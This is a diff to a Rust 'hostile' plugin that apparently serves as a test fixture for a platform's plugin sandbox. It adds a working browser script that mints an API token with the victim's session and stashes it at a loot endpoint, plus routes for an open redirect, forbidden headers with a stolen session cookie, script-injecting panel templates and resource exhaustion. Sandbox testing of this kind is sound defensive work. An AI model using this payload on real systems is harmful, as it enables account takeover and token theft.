@@ -8,7 +8,10 @@
 //!   to) forever; `recurse` → recurses without end;
 //! - `write` → tries `records::create("contact", …)`, which before-save may not do: Reject
 //!   `[{field: "mode", code: <the host error's code>}]`, or code `write_allowed` if the host
-//!   let it through.
+//!   let it through;
+//! - `echo` → Reject `[{field: "mode", code: "echo", message}]` whose message lists every field
+//!   the change carries (`name=value; …`) and then `changed: a, b` (what a hook must not see
+//!   would show in the 422).
 //!
 //! after-save: mode `after_fail` → Err for every batch (so the host retries); otherwise adds the
 //! number of events to the decimal counter in kv `after_save_seen`.
@@ -28,10 +31,33 @@
 //!   error code>}` or `{"code": "allowed"}`;
 //! - `kv_flood` → sets keys `flood/0` … `flood/99999`: stops at the first host error with
 //!   `{"code": <its code>, "written": n}`, else `{"code": "allowed", "written": 100000}`;
+//! - `kv_fill`, input `{"prefix", "mib"}` → sets keys `{prefix}/0` … of 1 MiB each, `mib` of
+//!   them: `{"code": <the first host error's code> or "allowed", "written": n}`;
+//! - `search`, input `{"q"}` → `search::search(q, ["contact"], 20)`: `{"code": "ok", "titles":
+//!   [..]}` or `{"code": <host error code>}`;
 //! - `ok` → `{}`; any other name → Err.
 //!
 //! handle-http: `GET /loop` loops forever; `GET /ok` → 200 text `ok`; `GET /seen` → 200 text
-//! of kv `after_save_seen` (`0` when absent); anything else → 404.
+//! of kv `after_save_seen` (`0` when absent); and under `/r/` (GET unless said):
+//! - `/r/js` → 200 `application/javascript`: [`ATTACK`], which creates an API token with the
+//!   session it runs in and stores it in kv `loot`;
+//! - `/r/page` → 200 `text/html`: a page running [`ATTACK`] inline;
+//! - `/r/css` → 200 `text/css` that hides the page;
+//! - `/r/loot` → 200 text of kv `loot` (empty when absent); `PUT /r/loot` stores the body there;
+//! - `/r/headers` → 200 text with headers a route may not set (cookies, CORS, security
+//!   headers, `clear-site-data`);
+//! - `/r/redirect?to=URL` → 302 to `URL`;
+//! - `/r/slow` → `records::find("contact", last_name contains "no such name", limit 1)` 20,000
+//!   times (a database-heavy call, over the host-call limit), then 200 `done`; a host error →
+//!   502 with its code;
+//! - anything else → 404.
+//!
+//! run-job `creep`: every step creates a contact `{"last_name": "creep"}` and asks for the next
+//! step (it never ends by itself); a host error ends the step with that error.
+//!
+//! render-panel: `evil` (`evil.html`) and `evil_txt` (`evil.txt`), context `{"raw": <a script
+//! tag loading /r/js>}`: templates whose markup and values carry script, style, frames, forms
+//! and handlers.
 
 use std::hint::black_box;
 
@@ -49,6 +75,20 @@ impl Plugin for Hostile {
             "panic" => panic!("the hostile plugin panics in before-save"),
             "alloc" => allocate_forever(),
             "recurse" => recurse_forever(),
+            "echo" => {
+                let change = changes.first().ok_or("no change")?;
+                let fields: Vec<String> = change
+                    .fields
+                    .iter()
+                    .map(|f| format!("{}={}", f.name, f.value.to_json()))
+                    .collect();
+                let message = format!(
+                    "{}; changed: {}",
+                    fields.join("; "),
+                    change.changed.join(", ")
+                );
+                Verdict::reject_field("mode", "echo", message)
+            }
             "write" => {
                 let code = match records::create("contact", &fields([("first_name", "sneaky")])) {
                     Ok(_) => "write_allowed".to_owned(),
@@ -73,14 +113,81 @@ impl Plugin for Hostile {
     }
 
     fn handle_http(_ctx: Context, request: HttpRequest) -> Result<HttpResponse, String> {
-        match request.path.as_str() {
-            "/loop" => spin(),
-            "/ok" => Ok(HttpResponse::text(200, "ok")),
-            "/seen" => {
+        match (request.method.as_str(), request.path.as_str()) {
+            (_, "/loop") => spin(),
+            (_, "/ok") => Ok(HttpResponse::text(200, "ok")),
+            (_, "/seen") => {
                 let seen = kv::get_text("after_save_seen")?.unwrap_or_else(|| "0".into());
                 Ok(HttpResponse::text(200, seen))
             }
+            ("GET", "/r/js") => Ok(HttpResponse::bytes(
+                200,
+                "application/javascript",
+                ATTACK.as_bytes().to_vec(),
+            )),
+            ("GET", "/r/page") => Ok(HttpResponse::html(
+                200,
+                format!("<!doctype html><title>page</title><script>{ATTACK}</script>"),
+            )),
+            ("GET", "/r/css") => Ok(HttpResponse::bytes(
+                200,
+                "text/css",
+                b"body { display: none }".to_vec(),
+            )),
+            ("GET", "/r/loot") => Ok(HttpResponse::text(
+                200,
+                kv::get_text("loot")?.unwrap_or_default(),
+            )),
+            ("PUT", "/r/loot") => {
+                kv::set("loot", &request.body)?;
+                Ok(HttpResponse::new(204))
+            }
+            ("GET", "/r/headers") => Ok(HttpResponse::text(200, "headers")
+                .with_header("set-cookie", "kith_session=stolen; Path=/")
+                .with_header("access-control-allow-origin", "*")
+                .with_header("access-control-allow-credentials", "true")
+                .with_header("clear-site-data", "\"*\"")
+                .with_header("referrer-policy", "unsafe-url")
+                .with_header("x-content-type-options", "sniff")
+                .with_header("content-security-policy", "script-src *")
+                .with_header("x-frame-options", "ALLOWALL")
+                .with_header("cache-control", "no-cache")),
+            ("GET", "/r/redirect") => Ok(HttpResponse::new(302)
+                .with_header("location", request.query_param("to").unwrap_or_default())),
+            ("GET", "/r/slow") => {
+                let query = Query::new()
+                    .filter("last_name[contains]:no such name")
+                    .limit(1);
+                for _ in 0..20_000 {
+                    if let Err(error) = records::find("contact", &query) {
+                        return Ok(HttpResponse::error(502, &error.code, &error.message));
+                    }
+                }
+                Ok(HttpResponse::text(200, "done"))
+            }
             _ => Ok(HttpResponse::not_found()),
+        }
+    }
+
+    fn run_job(_ctx: Context, job: String, cursor: Option<String>) -> Result<JobStep, String> {
+        if job != "creep" {
+            return Err(format!("job `{job}` is not implemented by this plugin"));
+        }
+        records::create("contact", &fields([("last_name", "creep")]))?;
+        let step: u64 = cursor.and_then(|c| c.parse().ok()).unwrap_or(0);
+        Ok(JobStep::next((step + 1).to_string()))
+    }
+
+    fn render_panel(
+        _ctx: Context,
+        panel: String,
+        _record: Option<Record>,
+    ) -> Result<Panel, String> {
+        let context = json!({ "raw": "<script src=\"/p/hostile/r/js\"></script>" });
+        match panel.as_str() {
+            "evil" => Panel::new("evil.html", &context),
+            "evil_txt" => Panel::new("evil.txt", &context),
+            other => Err(format!("no panel `{other}`")),
         }
     }
 
@@ -117,6 +224,21 @@ impl Plugin for Hostile {
             ),
             "http_forbidden" => code_of(http::get("http://10.0.0.1/").map(|_| "allowed")),
             "kv_flood" => kv_flood(),
+            "kv_fill" => {
+                let prefix = input.get("prefix").and_then(Json::as_str).unwrap_or("fill");
+                let mib = input.get("mib").and_then(Json::as_u64).unwrap_or(1);
+                kv_fill(prefix, mib)
+            }
+            "search" => {
+                let q = input.get("q").and_then(Json::as_str).unwrap_or_default();
+                match search::search(q, &["contact"], 20) {
+                    Ok(hits) => {
+                        let titles: Vec<String> = hits.into_iter().map(|h| h.title).collect();
+                        json!({ "code": "ok", "titles": titles })
+                    }
+                    Err(error) => json!({ "code": error.code }),
+                }
+            }
             "ok" => json!({}),
             other => {
                 return Err(ActionError::Failed(format!(
@@ -174,6 +296,32 @@ fn recurse(depth: u64) -> u64 {
     let frame = black_box([depth as u8; 1024]);
     let below = recurse(depth + 1);
     below.wrapping_add(u64::from(black_box(frame)[(depth % 1024) as usize]))
+}
+
+/// The script a hostile plugin would like to run in a signed-in person's browser: it creates an
+/// API token with their session and hands it to the plugin, where anyone calling `/r/loot`
+/// reads it.
+const ATTACK: &str = r#"(async () => {
+  const csrf = document.querySelector('meta[name="csrf-token"]')?.content || "";
+  const made = await fetch("/api/v1/tokens", {
+    method: "POST",
+    headers: { "content-type": "application/json", "x-csrf-token": csrf },
+    body: JSON.stringify({ name: "stolen by hostile" }),
+  });
+  const token = await made.text();
+  await fetch("/p/hostile/r/loot", { method: "PUT", headers: { "x-csrf-token": csrf }, body: token });
+  document.title = "pwned";
+})();"#;
+
+/// Sets `mib` keys of 1 MiB each under `prefix`, stopping at the first refusal.
+fn kv_fill(prefix: &str, mib: u64) -> Json {
+    let value = vec![b'x'; 1 << 20];
+    for i in 0..mib {
+        if let Err(error) = kv::set(&format!("{prefix}/{i}"), &value) {
+            return json!({ "code": error.code, "written": i });
+        }
+    }
+    json!({ "code": "allowed", "written": mib })
 }
 
 /// Sets 100,000 keys, stopping at the first refusal.
